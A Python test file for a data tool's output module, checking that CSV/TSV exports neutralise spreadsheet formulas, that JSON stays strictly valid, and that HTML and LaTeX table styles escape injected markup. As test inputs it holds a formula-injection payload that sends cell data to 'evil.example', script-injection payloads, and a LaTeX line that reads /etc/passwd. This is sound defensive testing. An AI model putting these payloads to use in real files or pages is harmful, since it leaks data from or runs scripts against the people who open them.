"""What the data holds cannot act on whoever opens the output (factdb.output).

Spreadsheets run a csv/tsv cell that starts with = + - @ tab or CR as a formula; JSON has no
NaN or blobs; HTML-ish table styles must not pass markup through. Listings neutralise all of
these; ``export`` stays byte-exact unless asked for ``--spreadsheet-safe``.
"""

from __future__ import annotations

import csv
import io
import json
import math
import uuid
from decimal import Decimal

import pytest
from hypothesis import given
from hypothesis import strategies as st

from factdb.output import FORMULA_STARTS, render
from factdb.text import visible


def rendered(rows: list[dict], fmt: str, style: str = "simple") -> str:
    out = io.StringIO()
    render(rows, list(rows[0]), fmt, style, out=out)
    return out.getvalue()


def strict_json(text: str):  # type: ignore[no-untyped-def]
    """Parse as a strict JSON parser would: NaN and Infinity are not JSON."""

    def refuse(name: str) -> None:
        raise ValueError(f"not JSON: {name}")

    return json.loads(text, parse_constant=refuse)


@given(st.text())
def test_csv_cells_never_start_a_formula(value: str) -> None:
    for fmt, delimiter in (("csv", ","), ("tsv", "\t")):
        text = rendered([{"v": value}], fmt)
        cells = list(csv.reader(io.StringIO(text, newline=""), delimiter=delimiter))
        cell = cells[1][0] if len(cells) > 1 and cells[1] else ""
        shown = visible(value)  # control characters are shown as escapes first (factdb.text)
        if shown.startswith(FORMULA_STARTS):
            assert cell == "'" + shown
        else:
            assert cell == shown
        assert not cell.startswith(FORMULA_STARTS)


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_each_formula_start_is_neutralised(start: str) -> None:
    text = rendered([{start + "h": start + "1+2"}], "csv")
    rows = list(csv.reader(io.StringIO(text, newline="")))
    # a tab or carriage return is already shown as an escape (\\x09), which starts no formula
    shown = visible(start)
    guard = "'" if shown.startswith(FORMULA_STARTS) else ""
    assert rows == [[guard + shown + "h"], [guard + shown + "1+2"]]


@given(st.decimals())
def test_any_decimal_is_a_valid_cell(value: Decimal) -> None:
    for fmt in ("csv", "tsv", "table", "json"):
        assert rendered([{"v": value}], fmt)


def test_numbers_stay_numbers() -> None:
    text = rendered([{"i": -3, "f": -1.5, "d": Decimal("-2.50"), "s": "-3"}], "csv")
    assert text.splitlines()[1] == "-3,-1.5,-2.50,'-3"


@given(
    st.one_of(
        st.floats(),
        st.binary(max_size=40),
        st.decimals(),
        st.lists(st.floats(), max_size=3),
        st.dictionaries(st.text(max_size=3), st.floats(), max_size=3),
    )
)
def test_json_is_always_valid(value) -> None:  # type: ignore[no-untyped-def]
    for fmt in ("json", "jsonl"):
        strict_json(rendered([{"v": value}], fmt).strip())


def test_blobs_and_non_finite_numbers() -> None:
    row = {
        "blob": b"\x00\xff\x10",
        "nan": math.nan,
        "inf": math.inf,
        "ninf": -math.inf,
        "dnan": Decimal("NaN"),
        "dec": Decimal("0.1000000000000000000001"),
        "id": uuid.UUID(int=1),
    }
    assert strict_json(rendered([row], "json")) == [
        {
            "blob": "X'00FF10'",
            "nan": "NaN",
            "inf": "Infinity",
            "ninf": "-Infinity",
            "dnan": "NaN",
            "dec": "0.1000000000000000000001",
            "id": "00000000-0000-0000-0000-000000000001",
        }
    ]
    assert rendered([row], "csv").splitlines()[1] == (
        "X'00FF10',NaN,Infinity,'-Infinity,NaN,0.1000000000000000000001,"
        "00000000-0000-0000-0000-000000000001"
    )


@pytest.mark.parametrize("style", ["html", "unsafehtml", "github", "pipe", "mediawiki", "textile"])
def test_markup_styles_escape_html(style: str) -> None:
    text = rendered([{"<th>": "<script>alert(1)</script> | x"}], "table", style)
    assert "<script>" not in text
    assert "&lt;script&gt;" in text and "&lt;th&gt;" in text


def test_latex_raw_is_escaped_like_latex() -> None:
    text = rendered([{"a": "\\input{/etc/passwd} & $x$"}], "table", "latex_raw")
    assert "\\input{/etc/passwd}" not in text


# --- the commands ------------------------------------------------------------------------------

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"officials")'


def test_claim_list_and_search_neutralise_formulas(run) -> None:  # type: ignore[no-untyped-def]
    result = run("claim", "add", FORMULA, "--speaker", "NATO")
    assert result.exit_code == 0, result.stderr
    for args in (("claim", "list"), ("claim", "search", "officials")):
        for fmt, delimiter in (("csv", ","), ("tsv", "\t")):
            out = run(*args, "--format", fmt)
            assert out.exit_code == 0, out.stderr
            rows = list(csv.DictReader(io.StringIO(out.stdout, newline=""), delimiter=delimiter))
            assert rows and rows[0]["text"].startswith("'=HYPERLINK("), (args, rows)


def test_sql_csv_json_and_table_output_are_safe(run) -> None:  # type: ignore[no-untyped-def]
    pg = run.db.startswith("postgresql")
    result = run("sql", "--format", "csv", "SELECT '=1+2' AS f, -3 AS n, '@x' AS \"=h\"")
    assert result.stdout == "f,n,'=h\n'=1+2,-3,'@x\n", result.stderr
    blob = "'\\x00ff'::bytea" if pg else "X'00FF'"
    inf = "'Infinity'::float8" if pg else "9e999"
    nan = "'NaN'::float8" if pg else "NULL"
    result = run("sql", "--format", "json", f"SELECT {blob} AS b, {inf} AS i, {nan} AS n")
    assert result.exit_code == 0, result.stderr
    assert strict_json(result.stdout) == [
        {"b": "X'00FF'", "i": "Infinity", "n": "NaN" if pg else None}
    ]
    result = run("sql", "--fmt", "unsafehtml", "SELECT '<img src=x onerror=alert(1)>' AS s")
    assert "<img" not in result.stdout and "&lt;img" in result.stdout


def test_export_is_exact_unless_spreadsheet_safe(run) -> None:  # type: ignore[no-untyped-def]
    assert run("claim", "add", FORMULA, "--speaker", "NATO").exit_code == 0
    exact = run("export", "--format", "csv")
    assert exact.exit_code == 0
    assert list(csv.DictReader(io.StringIO(exact.stdout, newline="")))[0]["text"] == FORMULA
    safe = run("export", "--format", "csv", "--spreadsheet-safe")
    assert safe.exit_code == 0
    assert list(csv.DictReader(io.StringIO(safe.stdout, newline="")))[0]["text"] == "'" + FORMULA
    result = run("export", "--format", "jsonl", "--spreadsheet-safe")
    assert result.exit_code == 2 and "--spreadsheet-safe" in result.stderr
